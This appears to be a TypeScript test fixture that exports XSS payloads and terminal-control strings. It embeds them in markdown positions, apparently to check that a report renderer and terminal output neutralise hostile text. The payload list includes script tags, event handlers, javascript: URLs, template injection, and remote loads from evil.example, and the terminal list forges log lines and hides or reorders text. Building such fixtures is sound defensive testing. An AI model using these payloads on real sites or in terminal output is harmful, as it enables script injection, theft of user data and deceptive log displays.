/** Each runs `ran()`, loads something from elsewhere or puts an element on the page, where text is taken for more than text. */
const PAYLOADS = [
  '<script>ran()</script>',
  '<script src=https://evil.example/x.js></script>',
  '</title><script>ran()</script>',
  '"><script>ran()</script>',
  '<img src=x onerror=ran()>',
  '<img src="x` `<script>ran()</script>"` `>',
  '<svg onload=ran()>',
  '<svg><animate onbegin=ran() attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src onerror=ran()>',
  '<iframe src="javascript:parent.ran()"></iframe>',
  '<object data="javascript:ran()"></object>',
  '<details open ontoggle=ran()>',
  '<input autofocus onfocus=ran()>',
  '<body onload=ran()>',
  '<form action="javascript:ran()"><button>x</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<style>@import "https://evil.example/x.css"; * { color: red }</style>',
  '<p style="background:url(https://evil.example/x.png)">x</p>',
  '<a href="javascript:ran()">x</a>',
  'javascript:ran()',
  'java\tscript:ran()',
  'javascript&colon;ran()',
  '\u0001javascript:ran()',
  'vbscript:ran()',
  'data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==',
  '//evil.example/x',
  '{{constructor.constructor("ran()")()}}',
  '${ran()}',
  '\u202e<script>ran()</script>',
] as const

/** Where in a report's markdown a text may stand. */
const PLACES: ((text: string) => string)[] = [
  (text) => text,
  (text) => `[x](${text})`,
  (text) => `[x](https://example.com "${text}")`,
  (text) => `![x](${text})`,
  (text) => `![${text}](x)`,
  (text) => `<${text}>`,
  (text) => `[r]\n\n[r]: ${text}`,
  (text) => `## ${text}`,
  (text) => `\`${text}\``,
  (text) => `<a href="${text}">x</a>`,
]

export const hostileTexts: readonly string[] = PAYLOADS

/** One report for each place. */
export const hostileReports = PLACES.map((place) => PAYLOADS.map(place).join('\n\n'))

/** Each forges a line or a column, moves the cursor, recolours, reorders or hides what a terminal shows. */
export const terminalTexts: readonly string[] = [
  'x\n2026-11-26T10:00:00.000Z\tgrant\t+999999\tx\tforged',
  'x\r2026-11-26T10:00:00.000Z',
  'x\ty',
  'x\u000b\u000cy',
  'x\u0085y',
  'x\u2028y\u2029z',
  '\u001b[2J\u001b[1;31mred',
  '\u001b]0;title\u0007',
  '\u009b31mred',
  '\u0008\u0008\u007f',
  '\u202e000,999+\u202c',
  '\u2066x\u2069',
  '\u200fx\u061c',
  'a\u200bb\u200d\ufeff\u00ad',
  '\u{e0041}\u{e007f}',
]
